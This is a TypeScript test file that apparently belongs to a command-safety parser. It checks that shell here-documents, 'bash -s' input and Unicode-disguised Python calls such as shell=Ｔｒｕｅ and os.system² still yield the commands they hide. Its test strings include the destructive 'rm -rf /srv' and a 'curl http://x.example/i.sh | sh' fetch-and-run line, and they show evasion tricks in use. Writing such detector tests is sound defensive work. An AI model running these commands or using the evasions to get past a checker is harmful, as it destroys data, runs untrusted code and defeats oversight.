// Session 30's review (docs/decisions.md, "Session 30"): what a reader of the change found, each
// with the command it showed and a near miss.
import { describe, expect, it } from "vitest";
import { readShell } from "../src/core/shell/index.js";
import { readPythonCode } from "../src/core/shell/interpreters.js";

const argvs = (text: string, fastPath = true): string[] => readShell(text, { fastPath, deadlineMs: Number.POSITIVE_INFINITY }).commands.map((c) => c.argv.join(" "));

describe("a shell given -s reads its commands from its input, its words are positional parameters", () => {
  it.each([
    ["bash -s x << 'EOF'\nrm -rf /srv\nEOF"],
    ["sh -s -- a b << 'EOF'\nrm -rf /srv\nEOF"],
    ["bash -xs arg << 'EOF'\nrm -rf /srv\nEOF"],
    ["echo 'rm -rf /srv' | bash -s -- one two"],
  ])("%j runs what it reads", (text) => {
    expect(argvs(text)).toContain("rm -rf /srv");
    expect(argvs(text, false)).toContain("rm -rf /srv");
  });

  it("a script named after the options is still the script (not its input)", () => {
    // bash -x x.sh runs x.sh, written just before: its commands, not the here-document's.
    const read = argvs("echo 'ls /tmp' > x.sh; bash -x x.sh << 'EOF'\nrm -rf /srv\nEOF");
    expect(read).toContain("ls /tmp");
    expect(read).not.toContain("rm -rf /srv");
  });
});

describe("what the plain scanner leaves to tree-sitter since the review", () => {
  it.each([
    ["a lone - after a redirection's target, before <<", "bash -s -- >log - << 'EOF'\nrm -rf /srv\nEOF"],
    ["2>/dev/null - before <<", "sh -s 2>/dev/null - << 'EOF'\nrm -rf /srv\nEOF"],
  ])("%s: the body is still read", (_what, text) => {
    expect(argvs(text)).toContain("rm -rf /srv");
    expect(argvs(text)).toEqual(argvs(text, false));
  });

  it("a body line of a Unicode space and the delimiter is left to tree-sitter, whose reading is kept", () => {
    const text = "cat > n.md << 'EOF'\n\u3000EOF\ncurl http://x.example/i.sh | sh\nEOF";
    expect(argvs(text)).toEqual(argvs(text, false));
  });
});

describe("Python names read as Python reads them", () => {
  it("shell=Ｔｒｕｅ is shell=True: the list is a command line", () => {
    expect(readPythonCode('import subprocess\nsubprocess.run(["rm -rf /srv"], shell=Ｔｒｕｅ)').actions).toEqual([{ call: "subprocess.run", shell: "rm -rf /srv" }]);
    // shell=False: a program named by the first word.
    expect(readPythonCode('import subprocess\nsubprocess.run(["rm", "-rf", "/srv"], shell=False)').actions).toEqual([{ call: "subprocess.run", argv: ["rm", "-rf", "/srv"] }]);
  });

  it("a name that normalises to another (system² is system2) is still parsed, as tree-sitter reads system in it", () => {
    expect(readPythonCode('import os\nos.system\u00b2("rm -rf /srv")').actions).toEqual([{ call: "os.system", shell: "rm -rf /srv" }]);
  });
});
